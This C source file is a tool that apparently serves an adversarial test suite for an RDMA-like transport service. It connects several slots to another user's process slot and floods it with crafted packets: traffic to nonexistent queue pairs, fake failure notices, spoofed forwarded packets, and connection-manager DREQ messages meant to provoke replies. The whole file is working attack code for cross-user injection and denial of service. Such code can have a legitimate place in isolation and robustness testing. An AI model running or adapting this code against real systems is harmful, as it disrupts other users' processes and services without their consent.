/*
 * Takes slots and links from them to a process's slot, as a Ferroce of another user has; then sends
 * what nobody wants, in turns: packets for queue pairs that there are not, notices about packets
 * that were not sent, packets that would have come over the wire, and messages of the connection
 * manager that are to be answered. It never reads the answers.
 *
 * usage: greeted-links SECONDS SLOT ADDRESS
 */
#include "link.h"

enum { LINKS = 4, KINDS = 4, PACKETS = 128, PACKET = 16, HEAD = 44, LONGEST = HEAD + PACKETS * (2 + PACKET) };
enum { RC_SEND_ONLY = 4, MAD = 256, DREQ = 0x15, CLASS_VERSION = 2 };

struct record {
	size_t length;
	unsigned char bytes[LONGEST];
};

static void put(unsigned char *at, uint32_t value, int bytes)
{
	while (bytes-- > 0) {
		at[bytes] = (unsigned char)value;
		value >>= 8;
	}
}

static void put_qpn(unsigned char *at, uint32_t qpn)
{
	at[0] = (unsigned char)qpn;
	at[1] = (unsigned char)(qpn >> 8);
	at[2] = (unsigned char)(qpn >> 16);
}

static void put_packets(struct record *record, uint32_t own, uint32_t slot, const char *address)
{
	unsigned char *bytes = record->bytes, *packet = bytes + HEAD + 2 * PACKETS;

	bytes[0] = 2;
	put_qpn(bytes + 1, own << SLOT_BITS | 1);
	bytes[4] = PACKETS;
	bytes[6] = 64;
	put_gid(bytes + 12, address);
	put_gid(bytes + 28, address);
	for (uint32_t i = 0; i < PACKETS; i++, packet += PACKET) {
		bytes[HEAD + 2 * i] = PACKET;
		packet[0] = RC_SEND_ONLY;
		packet[2] = packet[3] = 0xff;
		put(packet + 5, slot << SLOT_BITS | (i * 37 & 0x3fff), 3);
	}
	record->length = LONGEST;
}

static void put_notice(struct record *record, uint32_t own, uint32_t slot)
{
	record->bytes[0] = 5;
	put_qpn(record->bytes + 1, slot << SLOT_BITS | 1);
	put_qpn(record->bytes + 5, own << SLOT_BITS | 1);
	record->length = 8;
}

static void put_forwarded(struct record *record, const char *address)
{
	record->bytes[0] = 3;
	record->bytes[1] = 64;
	put_gid(record->bytes + 8, "192.0.2.1");
	put_gid(record->bytes + 24, address);
	record->length = 40 + PACKET;
}

/* The end of a connection that there is not: it is answered. */
static void put_dreq(struct record *record, uint32_t own, uint32_t slot, const char *address)
{
	const unsigned char header[4] = { 1, 7, CLASS_VERSION, 3 };
	unsigned char *mad = record->bytes + 36;

	record->bytes[0] = 4;
	put_gid(record->bytes + 4, address);
	put_gid(record->bytes + 20, address);
	memcpy(mad, header, sizeof header);
	mad[17] = DREQ;
	put(mad + 24, own << ID_BITS | 5, 4);
	put(mad + 28, slot << ID_BITS | 5, 4);
	record->length = 36 + MAD;
}

int main(int argc, char **argv)
{
	static struct record records[LINKS][KINDS];
	unsigned long slot, own[LINKS];
	int fds[LINKS];

	if (argc != 4)
		return 2;
	begin_attack(argv[1]);
	slot = number(argv[2], 1, SLOTS);
	for (int i = 0; i < LINKS; i++) {
		fds[i] = -1;
		own[i] = take_slot();
		put_packets(&records[i][0], (uint32_t)own[i], (uint32_t)slot, argv[3]);
		put_notice(&records[i][1], (uint32_t)own[i], (uint32_t)slot);
		put_forwarded(&records[i][2], argv[3]);
		put_dreq(&records[i][3], (uint32_t)own[i], (uint32_t)slot, argv[3]);
	}
	for (unsigned long n = 0; goes_on(); n++) {
		int i = (int)(n % LINKS);
		/* Most of them are to be answered. */
		struct record *record = &records[i][n / LINKS % 16 < KINDS ? n / LINKS % 16 : KINDS - 1];

		if (fds[i] < 0 && (fds[i] = link_to(slot, own[i])) < 0) {
			usleep(1000);
			continue;
		}
		if (send(fds[i], record->bytes, record->length, MSG_DONTWAIT | MSG_NOSIGNAL) == (ssize_t)record->length) {
			attack.injected++;
		} else if (errno != EAGAIN) {
			close(fds[i]);
			fds[i] = -1;
		}
	}
	tell();
	return 0;
}
